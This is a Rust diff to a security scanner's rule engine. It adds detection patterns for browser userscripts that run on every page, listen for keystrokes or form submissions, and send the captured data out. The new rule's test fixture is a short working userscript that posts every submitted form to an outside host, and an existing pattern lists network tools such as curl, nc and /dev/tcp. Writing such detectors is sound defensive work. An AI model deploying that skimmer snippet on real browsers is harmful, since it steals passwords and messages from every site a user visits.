@@ -5,7 +5,7 @@ use super::judges;
 use super::secrets;
 use super::signals;
 use crate::finding::{Category, Severity};
-use crate::layers::rule_engine::rule::{Rule, When};
+use crate::layers::rule_engine::rule::{Kind, Rule, When};
 use crate::layers::rule_engine::signal::Signal;
 
 static WATCH: Signal = Signal::command(
@@ -34,6 +34,18 @@ static EACH_COMMAND: Signal = Signal::command(
 static TOLD_AFAR: Signal = Signal::command(
     &["curl", "wget", "nc ", "ncat", "/dev/tcp/", "/dev/udp/", "invoke-", "irm ", "iwr ", "logger -n", "socat"],
     r"(?x) \bcurl\s[^\n]*(?:-[a-zA-Z]*[dFT]\b|--data|--get|-G\b|\?) | \bwget\s[^\n]*--(?:post|body) | \bn(?:c|cat)\s+(?:-\S+\s+)*[\w.-]+\s+\d{2,5}\b | /dev/(?:tcp|udp)/ | \b(?:Invoke-RestMethod|Invoke-WebRequest|irm|iwr)\b | \blogger\s+[^\n]*-n\s | \bsocat\b",
+);
+
+/// A script that runs in every page that is opened.
+static IN_EVERY_PAGE: Signal = Signal::command(
+    &["@match", "@include", "<all_urls>", "*://*/*"],
+    r"@match\s+(?:\*|https?)://\*/|@include\s+\*|<all_urls>|[\x22']\*://\*/\*[\x22']",
+);
+
+/// What is typed into a page.
+static TYPED_IN: Signal = Signal::command(
+    &["addeventlistener", "formdata", "onkeydown", "onkeyup", "onkeypress", "onsubmit"],
+    r"\baddEventListener\s*\(\s*[\x22'](?:keydown|keyup|keypress|submit|input|change)[\x22']|\bnew\s+FormData\s*\(\s*\w|\bon(?:keydown|keyup|keypress|submit)\s*=",
 );
 
 pub(super) static RULES: &[Rule] = &[
@@ -118,6 +130,24 @@ pub(super) static RULES: &[Rule] = &[
         misses: &[
             "```bash\nPROMPT_COMMAND='history -a'\n```\n",
             "```bash\npreexec() { print -Pn \"\\e]0;$1\\a\"; }\n```\n",
+        ],
+        ..Rule::BASE
+    },
+    Rule {
+        id: "MALWAR-EXFIL-084",
+        title: "What is typed into any page is sent",
+        severity: Severity::Critical,
+        confidence: 76,
+        category: Category::DataExfiltration,
+        taxa: &["EX-10", "EX-03"],
+        kind: Kind::Fact,
+        why: "passwords and messages of every site pass through it",
+        fix: "remove the script from the browser; change the passwords that were typed",
+        when: When::Package(&[&[&IN_EVERY_PAGE], &[&TYPED_IN], &[&signals::CODE_SEND]]),
+        hits: &["@s.user.js\n// @match *://*/*\ndocument.addEventListener('submit', (e) => {\n  const d = new FormData(e.target);\n  GM_xmlhttpRequest({ method: 'POST', url: 'https://s.fast-agent.top/u', data: d });\n}, true);\n"],
+        misses: &[
+            "@s.user.js\n// @match *://*/*\ndocument.addEventListener('keydown', (e) => { if (e.key === 'j') scrollBy(0, 99); });\n",
+            "@s.js\nform.addEventListener('submit', () => fetch('/save', { method: 'POST', body: new FormData(form) }));\n",
         ],
         ..Rule::BASE
     },
